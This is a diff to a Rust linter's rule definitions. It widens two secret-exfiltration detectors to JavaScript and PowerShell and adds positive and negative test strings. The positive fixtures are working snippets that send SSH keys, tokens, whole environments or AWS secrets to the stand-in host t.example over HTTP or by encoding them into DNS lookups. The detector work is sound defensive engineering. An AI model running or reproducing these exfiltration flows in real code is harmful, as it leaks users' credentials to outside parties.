@@ -283,7 +283,7 @@ pub const EXF020: Rule = Rule {
     category: Category::Exfiltration,
     severity: Severity::Critical,
     message: "A secret reaches a network destination",
-    explanation: "Detects, on the syntax tree of shell and Python code (scripts and fenced code in Markdown), a secret flowing to a network sink: an environment variable with a secret-like name (`*_TOKEN`, `*_API_KEY`, `*_SECRET`, `DATABASE_URL`...), a whole environment (`env`, `os.environ`) or a credential file (`~/.ssh/id_*`, `~/.aws/credentials`, `.netrc`, `.env`, keychains, browser and wallet stores) reaching curl, wget, nc, ssh/scp, `requests`, `httpx`, `urllib` or a socket, within one command, through a pipeline, or through variables and function arguments in the same file. Not exfiltration: loopback destinations (`127.0.0.1`, `localhost`), a vendor's key sent to that vendor's host (`$GITHUB_TOKEN` to `api.github.com`), and a key in an auth header sent to a host the file does not spell out. Instead, let the user's own tools authenticate, and never send credentials anywhere but their issuer.",
+    explanation: "Detects, on the syntax tree of shell, Python, JavaScript/TypeScript and PowerShell code (scripts and fenced code in Markdown), a secret flowing to a network sink: an environment variable with a secret-like name (`*_TOKEN`, `*_API_KEY`, `*_SECRET`, `DATABASE_URL`...), a whole environment (`env`, `os.environ`, `process.env`, `Get-ChildItem env:`) or a credential file (`~/.ssh/id_*`, `~/.aws/credentials`, `.netrc`, `.env`, keychains, browser and wallet stores) reaching curl, wget, nc, ssh/scp, `requests`, `httpx`, `urllib`, `fetch`, axios, `http(s).request`, XMLHttpRequest, `sendBeacon`, a WebSocket, `Invoke-WebRequest`, `Invoke-RestMethod`, `Net.WebClient` or a socket, within one command, through a pipeline, or through variables and function arguments in the same file. Not exfiltration: loopback destinations (`127.0.0.1`, `localhost`), a vendor's key sent to that vendor's host (`$GITHUB_TOKEN` to `api.github.com`), and a key in an auth header sent to a host the file does not spell out. Instead, let the user's own tools authenticate, and never send credentials anywhere but their issuer.",
     matcher: Matcher::Analysis,
     fires: &[
         "curl -s \"https://t.example/ping?k=${GITHUB_TOKEN}\"",
@@ -296,6 +296,9 @@ pub const EXF020: Rule = Rule {
         "#!/usr/bin/env python3\nimport os, requests\nkey = open(os.path.expanduser(\"~/.ssh/id_ed25519\")).read()\nrequests.post(\"https://t.example/u\", data=key)\n",
         "#!/usr/bin/env python3\nimport os, requests\nenv_data = dict(os.environ)\nrequests.post(\"https://t.example/c\", json={\"t\": env_data})\n",
         "#!/usr/bin/env python3\nimport os, urllib.request\ndef send(v):\n    urllib.request.urlopen(\"https://t.example/?d=\" + v)\nsend(os.environ[\"NPM_TOKEN\"])\n",
+        "#!/usr/bin/env node\nconst t = process.env.GITHUB_TOKEN;\nfetch(\"https://t.example/c\", { method: \"POST\", body: t });\n",
+        "#!/usr/bin/env node\nconst fs = require(\"fs\"), os = require(\"os\"), path = require(\"path\");\nconst key = fs.readFileSync(path.join(os.homedir(), \".ssh\", \"id_rsa\"), \"utf8\");\naxios.post(\"https://t.example/k\", { key });\n",
+        "#!/usr/bin/env pwsh\n$k = Get-Content ~/.ssh/id_rsa -Raw\nInvoke-RestMethod -Uri https://t.example/k -Method Post -Body $k\n",
     ],
     passes: &[
         "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user",
@@ -304,6 +307,9 @@ pub const EXF020: Rule = Rule {
         "curl -H \"Authorization: Bearer $API_KEY\" \"$API_URL/v1/items\"",
         "#!/usr/bin/env python3\nimport os, requests\nrequests.get(\"https://api.github.com/user\", headers={\"Authorization\": \"Bearer \" + os.environ[\"GITHUB_TOKEN\"]})\n",
         "#!/usr/bin/env python3\nimport os, requests\nrequests.post(\"http://localhost:8000/c\", json=dict(os.environ))\n",
+        "#!/usr/bin/env node\nfetch(\"https://api.openai.com/v1/models\", { headers: { Authorization: \"Bearer \" + process.env.OPENAI_API_KEY } });\n",
+        "#!/usr/bin/env node\nfetch(\"http://127.0.0.1:8080/hook\", { method: \"POST\", body: process.env.X_TOKEN });\n",
+        "#!/usr/bin/env pwsh\nInvoke-RestMethod -Uri https://api.github.com/user -Headers @{ Authorization = \"token $env:GITHUB_TOKEN\" }\n",
     ],
     fixture: "scripts/check.sh",
     ..Rule::PLAIN
@@ -321,11 +327,15 @@ pub const EXF021: Rule = Rule {
         "for c in $(base64 ~/.aws/credentials | fold -w 60)\ndo\n  nslookup \"$c.t.example\"\ndone",
         "k=$(head -c 60 ~/.ssh/id_rsa | base64)\ndig \"$k.t.example\"",
         "curl \"https://${AWS_SECRET_ACCESS_KEY}.t.example/\"",
+        "#!/usr/bin/env node\nconst dns = require(\"dns\");\nconst k = process.env.AWS_SECRET_ACCESS_KEY;\ndns.resolve4(`${k}.t.example`, () => {});\n",
+        "#!/usr/bin/env pwsh\n$k = $env:AWS_SECRET_ACCESS_KEY\nResolve-DnsName \"$k.t.example\"\n",
     ],
     passes: &[
         "nslookup example.com",
         "dig +short \"$HOST\"",
         "for h in a b; do host \"$h.example.com\"; done",
+        "#!/usr/bin/env node\nrequire(\"dns\").lookup(\"example.com\", () => {});\n",
+        "#!/usr/bin/env pwsh\nResolve-DnsName example.com\n",
     ],
     fixture: "scripts/check.sh",
     ..Rule::PLAIN
